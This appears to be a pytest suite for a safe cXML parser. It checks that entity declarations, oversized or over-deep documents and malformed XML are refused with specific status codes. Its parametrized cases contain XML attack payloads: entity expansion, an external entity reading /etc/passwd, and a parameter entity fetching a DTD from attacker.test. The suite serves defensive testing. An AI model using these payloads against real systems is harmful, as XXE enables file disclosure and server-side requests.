"""`punchout.safexml` (issue 39 "Safe XML"): a document is read without entities, external references or DTD
fetching, within 2 MB and 40 levels; anything else is DocumentRefused with the status to answer."""

from __future__ import annotations

import pytest

from punchout.safexml import MAX_DEPTH, MAX_DOCUMENT_BYTES, DocumentRefused, document_parse, text_of

ENTITIES_REFUSED = "Entity declarations and external references are not accepted."


def refusal(body: bytes) -> tuple[int, str]:
    with pytest.raises(DocumentRefused) as refused:
        document_parse(body)
    return refused.value.status, refused.value.text


def nested(depth: int) -> bytes:
    return ("<a>" * depth + "x" + "</a>" * depth).encode()


def test_a_cxml_document_naming_its_dtd_is_read_and_the_dtd_never_fetched():
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE cXML SYSTEM "file:///nonexistent/cXML.dtd">\n'
        b'<cXML payloadID="1@a.test"><Header/></cXML>'
    )

    root = document_parse(body)

    assert (root.tag, root.get("payloadID"), [child.tag for child in root]) == ("cXML", "1@a.test", ["Header"])


@pytest.mark.parametrize(
    "body",
    [
        b'<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><cXML>&b;</cXML>',
        b'<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><cXML>&x;</cXML>',
        b'<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]><cXML/>',
        b'<!DOCTYPE cXML [<!ENTITY logo SYSTEM "logo.gif" NDATA gif>]><cXML/>',
    ],
    ids=["entity expansion", "external entity", "external parameter entity", "unparsed entity"],
)
def test_entity_declarations_are_refused(body):
    assert refusal(body) == (400, ENTITIES_REFUSED)


def test_a_document_of_2_mb_is_read_and_one_byte_more_is_refused_413():
    padding = MAX_DOCUMENT_BYTES - len(b"<cXML><!----></cXML>")
    body = b"<cXML><!--" + b"x" * padding + b"--></cXML>"
    assert len(body) == MAX_DOCUMENT_BYTES

    assert document_parse(body).tag == "cXML"
    assert refusal(body + b" ") == (413, "The document is larger than 2 MB.")


@pytest.mark.parametrize("body", [b"", b"   \n\t "])
def test_an_empty_body_is_refused_400(body):
    assert refusal(body) == (400, "The request has no document.")


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"<cXML>", "The document is not well-formed XML (no element found: line 1, column 6)."),
        (b"<cXML></cxml>", "The document is not well-formed XML (mismatched tag: line 1, column 8)."),
        (b"<cXML/><cXML/>", "The document is not well-formed XML (junk after document element: line 1, column 7)."),
        (b"not xml", "The document is not well-formed XML (syntax error: line 1, column 0)."),
    ],
)
def test_a_document_that_is_not_well_formed_is_refused_400(body, text):
    assert refusal(body) == (400, text)


def test_nesting_to_the_limit_is_read_and_one_level_more_is_refused_400():
    assert MAX_DEPTH == 40
    assert document_parse(nested(40)).tag == "a"
    assert refusal(nested(41)) == (400, "The document is nested deeper than 40 levels.")


def test_very_deep_nesting_is_refused_without_exhausting_the_stack():
    assert refusal(nested(200_000)) == (400, "The document is nested deeper than 40 levels.")


def test_text_of_reads_a_paths_stripped_text_within_its_limit():
    root = document_parse(b"<r><a> <b>one</b> two </a><c>abcdef</c></r>")

    assert (text_of(root, "a"), text_of(root, "c", limit=3), text_of(root, "missing"), text_of(None, "a")) == (
        "one two",
        "abc",
        "",
        "",
    )
